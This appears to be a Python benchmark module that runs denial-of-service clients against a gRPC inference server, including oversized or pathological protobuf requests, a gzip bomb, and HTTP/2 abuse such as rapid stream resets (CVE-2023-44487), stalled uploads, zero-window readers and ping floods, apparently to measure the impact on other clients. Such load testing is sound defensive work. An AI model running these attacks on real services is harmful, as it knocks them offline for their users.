"""Clients that try to harm others, each in a process of its own.

python -m benchmarks.bystander.attacks NAME ADDRESS SECONDS
"""

import struct
import sys
import time
from collections.abc import Callable, Mapping
from contextlib import ExitStack, suppress
from functools import cache

import grpc
import numpy as np
from turnout_proto import inference_pb2 as pb
from turnout_server.wire.fields import varint

from benchmarks.bystander import http2
from benchmarks.bystander.http2 import Connection, frame

MB = 1_000_000
#: The model whose input is any number of texts, and the one whose answer has the shape that a request states.
TEXTS, FILL = "texts", "fill"


def texts(element: bytes, size: int = 16 * MB) -> bytes:
    """A request of about `size` bytes of raw texts, all the same, with the right shape."""
    one = struct.pack("<I", len(element)) + element
    count = size // len(one)
    message = pb.ModelInferRequest(model_name=TEXTS)
    message.inputs.add(name="INPUT", datatype="BYTES", shape=[count])
    message.raw_input_contents.append(one * count)
    return message.SerializeToString()


def typed_texts(size: int = 16 * MB) -> bytes:
    """The same in `bytes_contents`, texts of two characters."""
    message = pb.ModelInferRequest(model_name=TEXTS)
    tensor = message.inputs.add(name="INPUT", datatype="BYTES", shape=[size // 4])
    return _with_contents(message, tensor, b"\x42\x02ab" * (size // 4))


def typed_numbers(size: int = 16 * MB) -> bytes:
    """INT64 of one byte each."""
    message = pb.ModelInferRequest(model_name="numbers")
    tensor = message.inputs.add(name="INPUT", datatype="INT64", shape=[size])
    return _with_contents(message, tensor, b"\x1a" + varint(size) + b"\x01" * size)


def dimensions(size: int = 16 * MB) -> bytes:
    """An input with as many dimensions as fit."""
    tensor = b"\x1a" + varint(size) + b"\x01" * size
    return b"\x0a\x05texts\x2a" + varint(len(tensor)) + tensor


def parameters(count: int = 2 * MB) -> bytes:
    """As many parameters, of 10 bytes each."""
    return b"\x0a\x05texts" + b"".join(b"\x22\x08\x0a\x06%06x" % number for number in range(count))


def empty_inputs(size: int = 16 * MB) -> bytes:
    """Inputs of two bytes each."""
    return b"\x0a\x05texts" + b"\x2a\x00" * (size // 2)


def large_answer() -> bytes:
    """A request of 100 bytes for an answer of 1 GiB, more than is sent."""
    message = pb.ModelInferRequest(model_name=FILL)
    message.inputs.add(name="shape", datatype="INT64", shape=[2])
    message.raw_input_contents.append(np.array([2**14, 2**14]).tobytes())
    return message.SerializeToString()


#: What attacks are compared with: a message that gRPC receives and nobody reads, and work that doesn't touch the server.
UNREAD, COMPUTING = "16 MB for a method that there isn't", "a process that only computes"
#: Messages that are sent again and again, by name. They are made when they are needed.
MESSAGES: Mapping[str, Callable[[], bytes]] = {
    UNREAD: cache(lambda: bytes(16 * MB)),
    "16 MB of empty texts": cache(lambda: texts(b"")),
    "16 MB of short texts": cache(lambda: texts(b"ab")),
    "16 MB of short typed texts": cache(typed_texts),
    "16 MB of typed INT64, a byte each": cache(typed_numbers),
    "16 million dimensions": cache(dimensions),
    "2 million parameters": cache(parameters),
    "8 million empty inputs": cache(empty_inputs),
    "100 bytes for an answer of 1 GiB": cache(large_answer),
    "100 MB of zeros in gzip": cache(lambda: bytes(100 * MB)),
}


def resend(name: str, address: str, ends_s: float) -> None:
    """Sends one message after the other, and waits for each answer."""
    compression = grpc.Compression.Gzip if "gzip" in name else None
    options = [("grpc.max_send_message_length", -1), ("grpc.max_receive_message_length", -1)]
    with grpc.insecure_channel(address, options, compression) as channel:
        method = http2.INFER if name != UNREAD else f"{http2.INFER}Nothing"
        call = channel.unary_unary(method, bytes, bytes)
        while time.monotonic() < ends_s:
            with suppress(grpc.RpcError):
                call(MESSAGES[name](), timeout=30)


def reset(address: str, ends_s: float) -> None:
    """Opens streams and resets them, as fast as they can be written (CVE-2023-44487)."""
    connection = Connection(address)
    with suppress(OSError):
        while time.monotonic() < ends_s:
            for _ in range(100):
                stream = connection.open(http2.INFER)
                connection.send(frame(http2.RST_STREAM, 0, stream, struct.pack(">I", http2.CANCEL)))


def end_without_message(address: str, ends_s: float) -> None:
    """Opens unary calls and ends them at once, 50 at a time."""
    while time.monotonic() < ends_s:
        with Connection(address) as connection, suppress(OSError):
            for _ in range(50):
                stream = connection.open(http2.INFER, http2.END_HEADERS | http2.END_STREAM)
            connection.trailers(stream)


def stall(address: str, ends_s: float) -> None:
    """Keeps 200 uploads open that never end."""
    with ExitStack() as stack:
        for _ in range(200):
            connection = stack.enter_context(Connection(address))
            stream = connection.open(http2.INFER)
            connection.send(frame(http2.DATA, 0, stream, struct.pack(">BI", 0, 3 * MB) + bytes(1000)))
        time.sleep(max(0.0, ends_s - time.monotonic()))


def read_nothing(address: str, ends_s: float) -> None:
    """Asks for 50 answers of 4 MB and reads none."""
    message = pb.ModelInferRequest(model_name=FILL)
    message.inputs.add(name="shape", datatype="INT64", shape=[2])
    message.raw_input_contents.append(np.array([1000, 1000]).tobytes())
    with ExitStack() as stack:
        for _ in range(50):
            connection = stack.enter_context(Connection(address, window=0))
            data = http2.grpc_message(message.SerializeToString())
            connection.send(frame(http2.DATA, http2.END_STREAM, connection.open(http2.INFER), data))
        time.sleep(max(0.0, ends_s - time.monotonic()))


def ping(address: str, ends_s: float) -> None:
    """Sends pings until the connection is closed, and connects again."""
    while time.monotonic() < ends_s:
        with Connection(address) as connection, suppress(OSError):
            while time.monotonic() < ends_s:
                connection.send(frame(http2.PING, 0, 0, bytes(8)) * 10)


def compute(address: str, ends_s: float) -> None:
    """Takes a core, and leaves the server alone."""
    while time.monotonic() < ends_s:
        pass


CONNECTIONS: Mapping[str, Callable[[str, float], None]] = {
    COMPUTING: compute,
    "streams opened and reset": reset,
    "calls ended without a message": end_without_message,
    "200 stalled uploads": stall,
    "50 clients that read nothing": read_nothing,
    "a flood of pings": ping,
}
NAMES = (COMPUTING, *MESSAGES, *(name for name in CONNECTIONS if name != COMPUTING))


def _with_contents(message: pb.ModelInferRequest, tensor: pb.ModelInferRequest.InferInputTensor, contents: bytes) -> bytes:
    """A request with one typed input, without the objects that its values would become here."""
    described = tensor.SerializeToString() + b"\x2a" + varint(len(contents)) + contents
    return (
        pb.ModelInferRequest(model_name=message.model_name).SerializeToString() + b"\x2a" + varint(len(described)) + described
    )


def main(arguments: list[str]) -> int:
    """Runs one attack; returns the exit status."""
    name, address, seconds = arguments
    if name in MESSAGES:
        MESSAGES[name]()
    print("ready", flush=True)
    ends_s = time.monotonic() + float(seconds)
    if name in MESSAGES:
        resend(name, address, ends_s)
    else:
        CONNECTIONS[name](address, ends_s)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
